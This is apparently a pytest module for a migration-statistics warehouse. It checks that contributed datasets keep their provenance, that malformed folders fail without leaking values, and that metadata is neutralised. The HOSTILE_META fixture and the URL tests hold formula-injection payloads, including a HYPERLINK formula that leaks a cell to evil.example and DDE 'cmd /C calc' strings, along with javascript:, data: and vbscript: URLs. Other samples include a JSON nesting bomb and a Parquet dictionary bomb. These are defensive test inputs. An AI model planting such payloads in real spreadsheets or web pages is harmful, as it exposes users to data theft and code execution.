"""Contributed datasets: every publishable frame shape builds with its provenance; a malformed folder fails the build
naming file and field (never a value) and the current release stays byte for byte; metadata texts are stored inert."""

from __future__ import annotations

import asyncio
import csv
import importlib.util
import io
import json
import os
import shutil
from pathlib import Path

import httpx
import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from observatory.warehouse import releases
from observatory.warehouse.build import BuildError
from observatory.warehouse.contributed import http_url, inert_text

STOCK = "dest,orig,year,sex,stock\nFRA,DZA,2020,Male,800\nFRA,DZA,2020,Female,750\n"
PUB = "shelters-fra-2024"
NOTE = (
    "contributed by clinic-b, shelter-a, disclosure-controlled (minimum cell 10 with primary and secondary "
    "suppression; cells under 10 suppressed, rounded to base 5, at most 3 dimensions)"
)
META_FILE, DATA_FILE = f"contributed/{PUB}/dataset.json", f"contributed/{PUB}/observations.parquet"
SECRET = "Amina Haddad"  # stands for a record value: it must never reach an error message
COLUMN_TYPES = {
    "dataset_id": pa.string(),
    "measure_id": pa.string(),
    "area": pa.string(),
    "origin": pa.string(),
    "destination": pa.string(),
    "year": pa.int64(),
    "period": pa.string(),
    "sex": pa.string(),
    "age": pa.string(),
    "category": pa.string(),
    "value": pa.float64(),
    "lower": pa.float64(),
    "upper": pa.float64(),
    "status": pa.string(),
    "note": pa.string(),
}


def meta(pub_id: str = PUB, **changes) -> dict:
    """A dataset.json as the vault writes it."""
    base = {
        "id": pub_id,
        "publisher": "clinic-b, shelter-a",
        "title": "People served (FRA, 2024)",
        "version_producer": "1",
        "licence": "CC-BY-4.0",
        "citation": "clinic-b, shelter-a (2024). People served. Contributed to the Migration "
        "Observatory, disclosure-controlled.",
        "url_main": "https://example.org/shelters",
        "date_published": "2025-01-31",
        "note": NOTE,
        "measures": [
            {
                "id": "people_served",
                "label": "People served",
                "kind": "count",
                "unit": "persons",
                "definition": "Number of distinct people who received a service in the period.",
            }
        ],
    }
    base.update(changes)
    return base


def row(pub_id: str = PUB, **changes) -> dict:
    """One canonical observation row (the grand total by default)."""
    base = {
        "dataset_id": pub_id,
        "measure_id": "people_served",
        "area": "FRA",
        "origin": None,
        "destination": None,
        "year": 2024,
        "period": "",
        "sex": "total",
        "age": "total",
        "category": "",
        "value": 120.0,
        "lower": None,
        "upper": None,
        "status": "reported",
        "note": "",
    }
    base.update(changes)
    return base


def grid(pub_id: str = PUB, **dimensions: list) -> list[dict]:
    """Every cell of a frame with its margins: the product of the given column values, values 10, 20, 30, ..."""
    cells = [{}]
    for column, values in dimensions.items():
        cells = [{**cell, column: value} for cell in cells for value in values]
    return [row(pub_id, value=10.0 * (index + 1), **cell) for index, cell in enumerate(cells)]


def write_folder(
    home: Path, pub_id: str, metadata: dict | bytes | None, rows: list[dict] | bytes | None, types: dict | None = None
) -> Path:
    """A contributed folder as the vault publishes it; bytes are written as they are, None leaves the file out."""
    folder = home / "contributed" / pub_id
    folder.mkdir(parents=True, exist_ok=True)
    if metadata is not None:
        raw = metadata if isinstance(metadata, bytes) else json.dumps(metadata, ensure_ascii=False).encode()
        (folder / "dataset.json").write_bytes(raw)
    if isinstance(rows, bytes):
        (folder / "observations.parquet").write_bytes(rows)
    elif rows is not None:
        columns = list(rows[0]) if rows else list(COLUMN_TYPES)
        kinds = {**COLUMN_TYPES, **(types or {})}
        schema = pa.schema([(name, kinds.get(name, pa.string())) for name in columns])
        pq.write_table(pa.Table.from_pylist(rows, schema=schema), folder / "observations.parquet")
    return folder


def query(settings, sql: str, params: list | None = None) -> list[tuple]:
    _, con = releases.connect(settings)
    try:
        return con.execute(sql, params or []).fetchall()
    finally:
        con.close()


def state(settings) -> tuple[bytes, bytes]:
    """CURRENT and the current release file, byte for byte."""
    current = releases.current_release(settings)
    return (settings.releases_dir / releases.CURRENT_FILE).read_bytes(), current.path.read_bytes()


@pytest.fixture
def world(tiny_world):
    tiny_world.write("tiny/stock.csv", STOCK)
    return tiny_world


@pytest.fixture(scope="module")
def first_release(tmp_path_factory) -> Path:
    """A home with one tiny release, built once for the module."""
    base = tmp_path_factory.mktemp("first-release")
    # The tests folder is not a package: the shared conftest is loaded by path for its TinyWorld class.
    module_spec = importlib.util.spec_from_file_location(
        "tiny_world_conftest", Path(__file__).parents[1] / "conftest.py"
    )
    shared = importlib.util.module_from_spec(module_spec)
    module_spec.loader.exec_module(shared)
    built = shared.TinyWorld(base)
    built.write("tiny/stock.csv", STOCK)
    built.build()
    return built.settings.home


@pytest.fixture
def released_world(world, first_release):
    """The tiny world with a current release (a copy of the module's first one) that a failed build must leave alone."""
    shutil.copytree(first_release, world.settings.home)
    return world


# --- every publishable shape builds, with provenance --------------------------------------------------------------

SHAPES = {
    "sex-by-legal-status": grid(sex=["total", "female", "male"], category=["", "asylum_seeker", "refugee", "detained"]),
    "by-month": grid(period=["", *(f"2024-{m:02d}" for m in range(1, 13))]),
    "nationality-by-sex": grid(origin=[None, "DZA", "TUR", "XXX"], sex=["total", "female", "male"]),
    "age-band-by-month": grid(age=["total", "0-17", "18-24", "65+"], period=["", "2024-01", "2024-02"]),
    "sex-by-month-filtered": grid(sex=["total", "female", "male"], period=["", "2024-06"], category=["refugee"]),
    "four-dimensions": grid(
        origin=[None, "DZA"], sex=["total", "female"], age=["total", "0-17"], period=["", "2024-03"]
    ),
    "suppressed-cells": [
        row(),
        row(sex="female", value=None, note="suppressed"),
        row(sex="male", value=None, note="suppressed"),
    ],
    "noisy-with-intervals": [
        row(value=118.0, lower=110.0, upper=126.0, status="estimated"),
        row(sex="female", value=61.0, lower=53.0, upper=69.0, status="estimated"),
    ],
}


@pytest.mark.parametrize("shape", SHAPES)
def test_every_publishable_shape_builds_with_its_provenance(world, shape):
    rows = SHAPES[shape]
    write_folder(world.settings.home, PUB, meta(), rows)
    report = world.build()
    settings = world.settings
    assert report.datasets[PUB] == len(rows)
    publisher, note, citation, count = query(
        settings, "SELECT publisher, note, citation_full, row_count FROM dataset WHERE id = ?", [PUB]
    )[0]
    assert publisher == "clinic-b, shelter-a" and note == NOTE and count == len(rows)
    assert NOTE in citation  # every surface that cites the dataset shows who contributed it and how
    stored = query(
        settings,
        "SELECT origin, period, sex, age, category, value, lower, upper, status FROM observation "
        "WHERE dataset_id = ? ORDER BY ALL",
        [PUB],
    )
    expected = [
        (r["origin"], r["period"], r["sex"], r["age"], r["category"], r["value"], r["lower"], r["upper"], r["status"])
        for r in rows
    ]
    assert sorted(stored, key=repr) == sorted(expected, key=repr)
    assert query(settings, "SELECT kind, unit, level FROM measure WHERE dataset_id = ?", [PUB]) == [
        ("count", "persons", "area")
    ]
    files = query(
        settings, "SELECT path, length(sha256), bytes > 0 FROM dataset_file WHERE dataset_id = ? ORDER BY 1", [PUB]
    )
    assert files == [(META_FILE, 64, True), (DATA_FILE, 64, True)]


@pytest.mark.parametrize("absent", ["null-periods", "no-period-column"])
def test_a_yearly_frame_without_periods_is_a_year(world, absent):
    """The frame that broke every build (issue 13 item 10): sex x legal_status written with null periods."""
    rows = grid(sex=["total", "female", "male"], category=["", "refugee"], period=[None])
    if absent == "no-period-column":
        rows = [{k: v for k, v in r.items() if k != "period"} for r in rows]
    write_folder(world.settings.home, PUB, meta(), rows)
    world.build()
    assert query(world.settings, "SELECT DISTINCT period FROM observation WHERE dataset_id = ?", [PUB]) == [("",)]


def test_several_contributed_datasets_share_a_measure(world):
    write_folder(world.settings.home, "by-sex", meta("by-sex"), grid("by-sex", sex=["total", "female", "male"]))
    write_folder(world.settings.home, "by-month", meta("by-month"), grid("by-month", period=["", "2024-01"]))
    report = world.build()
    assert report.datasets["by-sex"] == 3 and report.datasets["by-month"] == 2
    assert query(world.settings, "SELECT dataset_id FROM measure WHERE id = 'people_served' ORDER BY 1") == [
        ("by-month",),
        ("by-sex",),
    ]


def test_the_vaults_temporary_folders_and_stray_files_are_not_datasets(world):
    home = world.settings.home
    write_folder(home, ".tmp-half-written", None, [row()])
    (home / "contributed" / "README").write_text("not a dataset")
    write_folder(home, PUB, meta(), [row()])
    report = world.build()
    assert set(report.datasets) == {"area_reference", "tiny_stock", PUB}
    assert any(f.check_name == "not_a_publication" for f in report.findings)


# --- malformed folders fail the build, naming file and field; the current release stays ---------------------------


def _parquet_bytes(rows: list[dict], types: dict | None = None) -> bytes:
    schema = pa.schema([(name, {**COLUMN_TYPES, **(types or {})}.get(name, pa.string())) for name in rows[0]])
    sink = io.BytesIO()
    pq.write_table(pa.Table.from_pylist(rows, schema=schema), sink)
    return sink.getvalue()


def _without(rows: list[dict], column: str) -> list[dict]:
    return [{k: v for k, v in r.items() if k != column} for r in rows]


def _nested(depth: int) -> bytes:
    return b'{"id": ' + b"[" * depth + b"]" * depth + b"}"


MALFORMED = {
    # dataset.json
    "truncated-json": (json.dumps(meta()).encode()[:-40], [row()], [META_FILE, "not valid JSON"]),
    "json-not-an-object": (b'["' + SECRET.encode() + b'"]', [row()], [META_FILE, "object"]),
    "not-utf8-json": (
        json.dumps(meta(title="Caf\u00e9"), ensure_ascii=False).encode().replace(b"\xc3\xa9", b"\xe9"),
        [row()],
        [META_FILE, "not valid JSON"],
    ),
    "deeply-nested-json": (_nested(30_000), [row()], [META_FILE]),
    "oversized-json": (meta(citation="x" * 70_000), [row()], [META_FILE, "larger than the limit"]),
    "missing-title": (
        {k: v for k, v in meta().items() if k != "title"},
        [row()],
        [META_FILE, "field 'title'", "required"],
    ),
    "title-not-text": (meta(title=12), [row()], [META_FILE, "field 'title'", "string"]),
    "empty-after-cleaning": (meta(title="\u202e\x00"), [row()], [META_FILE, "field 'title'", "empty"]),
    "note-not-provenance": (meta(note=SECRET), [row()], [META_FILE, "field 'note'", "contributed by ORG"]),
    "unknown-measure-kind": (
        meta(measures=[{**meta()["measures"][0], "kind": SECRET}]),
        [row()],
        [META_FILE, "field 'measures.0.kind'"],
    ),
    "no-measures": (meta(measures=[]), [row()], [META_FILE, "field 'measures'"]),
    "id-not-the-folder": (meta(id="other-id"), [row()], [META_FILE, "field 'id'", "folder"]),
    "measure-of-a-source": (
        meta(measures=[{**meta()["measures"][0], "id": "migrant_stock"}]),
        [row(measure_id="migrant_stock")],
        [META_FILE, "field 'measures.0.id'", "declared source"],
    ),
    "missing-dataset-json": (None, [row()], [META_FILE, "missing"]),
    # observations.parquet
    "missing-observations": (meta(), None, [DATA_FILE, "missing"]),
    "truncated-parquet": (meta(), _parquet_bytes([row()])[:-30], [DATA_FILE, "not a readable Parquet file"]),
    "not-parquet": (meta(), SECRET.encode(), [DATA_FILE, "not a readable Parquet file"]),
    "missing-column": (meta(), _without([row()], "sex"), [DATA_FILE, "field 'sex'", "missing"]),
    "extra-column": (meta(), [{**row(), SECRET: "x"}], [DATA_FILE, "column(s) 16", "not a canonical"]),
    "nested-column": (
        meta(),
        _parquet_bytes([{**row(), SECRET: {"sex": "female"}}], {SECRET: pa.struct([("sex", pa.string())])}),
        [DATA_FILE, "column(s) 16", "not a canonical"],
    ),
    "struct-in-place-of-sex": (
        meta(),
        _parquet_bytes([{**row(), "sex": {SECRET: "female"}}], {"sex": pa.struct([(SECRET, pa.string())])}),
        [DATA_FILE, "column(s) 8", "not a canonical"],
    ),
    "value-as-text": (
        meta(),
        _parquet_bytes([row(value="120")], {"value": pa.string()}),
        [DATA_FILE, "field 'value'", "expected numbers"],
    ),
    "year-as-text": (
        meta(),
        _parquet_bytes([row(year="2024")], {"year": pa.string()}),
        [DATA_FILE, "field 'year'", "whole numbers"],
    ),
    "year-overflow": (
        meta(),
        _parquet_bytes([row(year=2**63 + 5)], {"year": pa.uint64()}),
        [DATA_FILE, "field 'year'"],
    ),
    "sex-as-number": (
        meta(),
        _parquet_bytes([row(sex=1)], {"sex": pa.int64()}),
        [DATA_FILE, "field 'sex'", "expected text"],
    ),
    "no-rows": (meta(), [], [DATA_FILE, "no rows"]),
    "unknown-area": (meta(), [row(), row(origin="ISL")], [DATA_FILE, "row 2", "field 'origin'", "area code"]),
    "missing-area": (meta(), [row(area=None)], [DATA_FILE, "row 1", "field 'area'"]),
    "corridor-row": (meta(), [row(destination="DEU")], [DATA_FILE, "field 'destination'"]),
    "undeclared-measure": (
        meta(),
        [row(), row(measure_id="people_detained")],
        [DATA_FILE, "row 2", "field 'measure_id'", "declared"],
    ),
    "other-dataset-id": (meta(), [row(dataset_id="tiny_stock")], [DATA_FILE, "field 'dataset_id'"]),
    "monthly-frame-without-period": (
        meta(),
        [row(period="2024-01"), row(period=None)],
        [DATA_FILE, "row 2", "field 'period'", "monthly"],
    ),
    "month-out-of-range": (meta(), [row(period="2024-13")], [DATA_FILE, "field 'period'"]),
    "month-of-another-year": (meta(), [row(period="2023-05")], [DATA_FILE, "field 'period'"]),
    "quarter-period": (meta(), [row(period="2024Q2")], [DATA_FILE, "field 'period'"]),
    "hostile-sex": (meta(), [row(sex=SECRET)], [DATA_FILE, "field 'sex'"]),
    "null-sex": (meta(), [row(sex=None)], [DATA_FILE, "field 'sex'"]),
    "hostile-category": (meta(), [row(category=SECRET)], [DATA_FILE, "field 'category'"]),
    "formula-in-row-note": (meta(), [row(note='=HYPERLINK("http://x")')], [DATA_FILE, "field 'note'"]),
    "negative-count": (meta(), [row(value=-5.0)], [DATA_FILE, "field 'value'"]),
    "infinite-count": (meta(), [row(value=float("inf"))], [DATA_FILE, "field 'value'"]),
    "interval-upside-down": (meta(), [row(lower=130.0, upper=110.0)], [DATA_FILE, "field 'upper'"]),
    "unknown-status": (meta(), [row(status="guessed")], [DATA_FILE, "field 'status'"]),
    "repeated-key": (
        meta(),
        [row(), row(sex="female"), row(sex="female", value=5.0)],
        [DATA_FILE, "row 2", "repeat the key"],
    ),
    "overlong-text-cell": (meta(), [row(note="a" * 5000)], [DATA_FILE, "field 'note'", "longer than 200"]),
}


@pytest.mark.parametrize("case", MALFORMED)
def test_malformed_contributed_folder_fails_naming_file_and_field(released_world, case):
    world = released_world
    before = state(world.settings)
    metadata, rows, expected = MALFORMED[case]
    write_folder(world.settings.home, PUB, metadata, rows)
    with pytest.raises(BuildError, match="^build failed, the current release is unchanged:") as failure:
        world.build()
    message = str(failure.value)
    for fragment in expected:
        assert fragment in message, message
    assert SECRET not in message and "JSONDecodeError" not in message and "Traceback" not in message
    assert "NOT NULL constraint" not in message
    assert state(world.settings) == before
    assert not list(world.settings.releases_dir.glob("*.building*"))


def test_every_bad_folder_is_reported_in_one_build(world):
    write_folder(world.settings.home, "first-bad", meta("first-bad", title=""), [row("first-bad")])
    write_folder(world.settings.home, "second-bad", meta("second-bad"), [row("second-bad", sex="unknown")])
    write_folder(world.settings.home, "good-one", meta("good-one"), [row("good-one")])
    with pytest.raises(BuildError, match="contributed/first-bad/dataset.json, field 'title'") as failure:
        world.build()
    message = str(failure.value)
    assert "contributed/first-bad/dataset.json, field 'title'" in message
    assert "contributed/second-bad/observations.parquet, row 1, field 'sex'" in message
    assert "good-one" not in message


@pytest.mark.parametrize("source_id", ["tiny_stock", "wdi_bulk"])  # loaded by this build, or declared only
def test_a_contributed_dataset_cannot_take_a_source_id(released_world, source_id):
    before = state(released_world.settings)
    write_folder(released_world.settings.home, source_id, meta(source_id), [row(source_id)])
    with pytest.raises(BuildError, match="the id belongs to a declared source") as failure:
        released_world.build()
    assert f"contributed/{source_id}/dataset.json, field 'id': the id belongs to a declared source" in str(
        failure.value
    )
    assert state(released_world.settings) == before


def test_a_folder_name_the_vault_cannot_write_is_refused_without_echo(released_world):
    world = released_world
    before = state(world.settings)
    write_folder(world.settings.home, SECRET, meta(), [row()])
    with pytest.raises(BuildError, match="entry 1: the name is not a publication id") as failure:
        world.build()
    assert "not a publication id" in str(failure.value) and SECRET not in str(failure.value)
    assert state(world.settings) == before


def test_links_are_never_followed(world, tmp_path):
    outside = tmp_path / "outside.json"
    outside.write_text(json.dumps(meta()))
    folder = write_folder(world.settings.home, PUB, None, [row()])
    os.symlink(outside, folder / "dataset.json")
    with pytest.raises(BuildError, match="cannot be opened as a plain file"):
        world.build()
    (folder / "dataset.json").unlink()
    (folder / "dataset.json").write_text(json.dumps(meta()))
    linked = world.settings.home / "contributed" / "linked-folder"
    os.symlink(folder, linked)
    with pytest.raises(BuildError, match="contributed/linked-folder: not a plain folder"):
        world.build()


def test_a_pipe_is_not_read(world):
    folder = write_folder(world.settings.home, PUB, meta(), None)
    os.mkfifo(folder / "observations.parquet")
    with pytest.raises(BuildError, match="observations.parquet: not a regular file"):
        world.build()


def test_a_dictionary_bomb_is_refused_before_it_expands(world):
    """A short string column can stand for millions of long strings; lengths are checked before decoding."""
    rows = [row(sex="female", age=str(n)) for n in range(100)]
    table = pa.Table.from_pylist(rows, schema=pa.schema(list(COLUMN_TYPES.items())))
    bomb = pa.DictionaryArray.from_arrays(pa.array([0] * 100, pa.int32()), pa.array(["x" * 1_000_000]))
    table = table.set_column(table.column_names.index("note"), "note", bomb)
    folder = write_folder(world.settings.home, PUB, meta(), None)
    pq.write_table(table, folder / "observations.parquet")
    with pytest.raises(BuildError, match="field 'note': a value is longer than 200 characters"):
        world.build()


# --- metadata texts are stored inert --------------------------------------------------------------------------------

HOSTILE_META = meta(
    title='=HYPERLINK("http://evil.example/?leak="&A1, "People served")',
    publisher="@SUM(1+1)*cmd|' /C calc'!A0",
    citation="+cmd|' /C calc'!A0",
    version_producer="-2+3",
    licence="\uff1dcmd",
    url_main="javascript:alert(document.cookie)",
    measures=[{**meta()["measures"][0], "label": "=1+1", "definition": "\tdefinition with a tab\u202e reversed"}],
)


def test_formula_and_script_texts_are_stored_inert(world):
    write_folder(world.settings.home, PUB, HOSTILE_META, [row()])
    report = world.build()
    title, publisher, citation, version, licence, url = query(
        world.settings,
        "SELECT title, publisher, citation_full, version_producer, licence, url_main FROM dataset WHERE id = ?",
        [PUB],
    )[0]
    assert title.startswith("'=") and publisher.startswith("'@") and citation.startswith("'+")
    assert version == "'-2+3" and licence == "'\uff1dcmd" and url is None
    label, definition = query(world.settings, "SELECT label, definition FROM measure WHERE dataset_id = ?", [PUB])[0]
    assert label == "'=1+1" and definition == "definition with a tab reversed"
    [unsafe] = [f for f in report.findings if f.check_name == "unsafe_url"]
    assert unsafe.field == "url_main" and unsafe.severity == "warning" and "javascript" not in unsafe.message
    assert any(f.check_name == "inert_text" for f in report.findings)


def api_get(settings, path: str, params: dict | None = None) -> httpx.Response:
    """One GET against the portal API of this home, in process over ASGI."""
    from observatory.api.app import create_app

    async def ask() -> httpx.Response:
        transport = httpx.ASGITransport(app=create_app(settings))
        async with httpx.AsyncClient(transport=transport, base_url="http://portal") as client:
            return await client.get(path, params=params)

    return asyncio.run(ask())


def test_the_datasets_download_holds_no_formula(world):
    """The API's CSV of datasets is one of the surfaces a spreadsheet opens."""
    write_folder(world.settings.home, PUB, HOSTILE_META, [row()])
    world.build()
    response = api_get(world.settings, "/api/datasets", {"format": "csv"})
    assert response.status_code == 200
    cells = [cell for line in csv.reader(io.StringIO(response.text)) for cell in line]
    assert "People served" in response.text
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\uff1d"))]
    assert "javascript:" not in api_get(world.settings, f"/api/datasets/{PUB}").text


@pytest.mark.parametrize(
    "url",
    [
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        " javascript:alert(1)",
        "java\tscript:alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "vbscript:msgbox",
        "//evil.example/x",
        "https://user:pw@evil.example/",
        "https://evil.example/\u202ex",
        "ftp://example.org/file",
        "http://",
        "https://exa mple.org/",
    ],
)
def test_only_plain_http_addresses_are_kept(url):
    assert http_url(url) is None


@pytest.mark.parametrize("url", ["https://example.org/a", "http://example.org:8080/a?b=c#d", "HTTPS://EXAMPLE.ORG"])
def test_plain_http_addresses_are_kept(url):
    assert http_url(url) == url


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@A1", "'@A1"),
        ("  =1", "'=1"),
        ("\t=1", "'=1"),
        ("\uff0bcmd", "'\uff0bcmd"),
        ("People served", "People served"),
        ("a\x00b\u202ec", "a b c"),
        ("x = 1", "x = 1"),
    ],
)
def test_inert_text(text, expected):
    assert inert_text(text) == expected
